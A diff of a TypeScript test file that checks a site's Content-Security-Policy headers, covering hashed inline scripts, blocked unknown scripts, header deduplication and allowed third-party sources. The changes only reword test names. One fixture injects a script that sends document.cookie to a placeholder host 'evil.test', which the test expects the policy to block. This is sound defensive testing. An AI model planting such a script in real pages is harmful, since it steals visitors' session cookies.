@@ -9,7 +9,7 @@ const own = '$RC("B:1","S:1")'
 const hashOf = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`
 const policyOf = (header: string | string[] | undefined) => String(header)
 
-test('a page’s policy allows the framework’s inline scripts by their hashes, and nothing inline else', async () => {
+test('a page’s policy allows the framework’s inline scripts by hash, and no other inline script', async () => {
   const { render } = fakeRenderer(() =>
     page(`<script>${own}</script><script type="application/ld+json">{"a":1}</script>`),
   )
@@ -25,7 +25,7 @@ test('a page’s policy allows the framework’s inline scripts by their hashes,
   expect(hit.headers['cache-status']).toBe('front; hit')
 })
 
-test('a page with a script that nobody vouches for is sent with a policy that blocks it, not kept, and logged', async () => {
+test('a page with an unknown script is sent with a policy that blocks it, is not cached, and is logged', async () => {
   const foreign = 'fetch("//evil.test?"+document.cookie)'
   const { render } = fakeRenderer(() =>
     page(`<script>${own}</script><SCRIPT data-x="1">${foreign}</SCRIPT>`),
@@ -44,7 +44,7 @@ test('a page with a script that nobody vouches for is sent with a policy that bl
   expect(warning).toMatchObject({ scripts: [foreign] })
 })
 
-test('a header that the renderer writes twice goes out once', async () => {
+test('a header that the renderer writes twice is sent once', async () => {
   const preload = '</_next/static/media/archivo.woff2>; rel=preload; as="font"'
   const { render } = fakeRenderer(() =>
     page('', { headers: { ...page('').headers, link: [preload, preload] } }),
@@ -53,7 +53,7 @@ test('a header that the renderer writes twice goes out once', async () => {
   expect((await ask('/de')).headers.link).toBe(preload)
 })
 
-test('foreign sources are only those that the site names', async () => {
+test('third-party sources are only those that the site names', async () => {
   const { render } = fakeRenderer(() => page(''))
   const none: string[] = []
   const { ask } = await serveFront({
@@ -84,7 +84,7 @@ test('M-06 pages may frame the players of the known providers, and use nothing e
   expect(others).not.toMatch(/https:/)
 })
 
-test('X-05 the policy lets the tag manager through only where the house has one', async () => {
+test('X-05 the policy allows the tag manager only where the theatre uses one', async () => {
   const { render } = fakeRenderer(() => page(''))
   const policies = await Promise.all(
     [{}, { tagManagerId: 'GTM-PROBE1' }].map(async (services) => {
